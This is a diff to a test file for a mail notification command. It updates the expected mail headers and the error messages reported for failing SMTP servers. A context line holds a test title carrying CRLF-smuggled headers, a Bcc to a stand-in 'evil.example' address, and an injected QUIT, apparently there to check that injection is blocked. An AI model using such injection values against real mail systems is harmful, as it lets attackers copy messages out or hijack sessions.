@@ -46,7 +46,15 @@ const title = 'Pay\r\nBcc: thief@evil.example\r\n\r\n.\r\nQUIT\r\n“now” \u20
 
 function assertHeaders(mail: Mail | undefined): void {
   const known = ['from', 'to', 'subject', 'message-id', 'date', 'auto-submitted', 'mime-version'];
-  const all = [...known, 'x-priority', 'importance', 'content-type', 'content-transfer-encoding'];
+  const all = [
+    ...known,
+    'x-priority',
+    'importance',
+    'references',
+    'in-reply-to',
+    'content-type',
+    'content-transfer-encoding',
+  ];
   assert.deepEqual(Object.keys(mail?.headers ?? {}).sort(), all.sort());
 }
 
@@ -122,9 +130,9 @@ test('a mail server that fails or hangs is named with its cause, and no password
   const { code, stdout, stderr } = await hdoBeside(['notify', 'test', '--data', data], { env });
   assert.equal(code, 69);
   assert.deepEqual(stdout.trimEnd().split('\n'), [
-    'wrong: refused the sign-in (535)',
+    'wrong: refused the sign-in (535: no)',
     'bare: offers no encryption (STARTTLS) with a valid certificate',
-    'refusing: refused the mail (550)',
+    'refusing: refused the mail (550: (its words repeat a secret))',
     'nobody: could not be reached (ECONNREFUSED)',
     'silent: did not answer in time',
   ]);
